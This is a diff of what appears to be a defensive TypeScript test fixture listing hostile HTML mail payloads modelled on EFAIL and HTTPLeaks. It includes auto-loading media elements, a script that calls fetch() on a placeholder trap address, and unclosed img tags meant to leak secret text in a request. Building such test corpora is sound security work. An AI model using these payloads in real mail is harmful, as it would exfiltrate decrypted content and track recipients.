@@ -1,11 +1,11 @@
-// Mails that try to load something, to run something, or to leave their frame: each way that is known, in a few lines of
-// our own, after EFAIL, HTTPLeaks and what was mended in mail programs. `trap` is an address that must never be asked.
+// Mails that try to load something, to run something, or to leave their frame: every known way in a few lines of our
+// own, after EFAIL, HTTPLeaks and fixes in mail programs. `trap` is an address that must never be requested.
 
 type Hostile = { name: string; html: string };
 
 const run = (trap: string) => `top.hasRun=1;fetch('${trap}/ran')`;
 
-/** An element that loads an address by itself, in each attribute that does. */
+/** Elements that load an address by themselves, in each attribute that does so. */
 const loaders = (trap: string): string[] => [
   `<audio src="${trap}/1" autoplay></audio>`,
   `<video poster="${trap}/2" src="${trap}/3" autoplay><track src="${trap}/4"></video>`,
@@ -73,7 +73,7 @@ const scripts = (trap: string): string[] => {
   ];
 };
 
-/** EFAIL: an address left open in one part swallows the next; what was secret would be in what is asked. */
+/** EFAIL: an unclosed address in one part swallows the next, so that the request would contain the secret. */
 const unclosed = (trap: string): string[] => [
   `<img src="${trap}/110?`,
   `<p>secret</p><img src='${trap}/111?`,
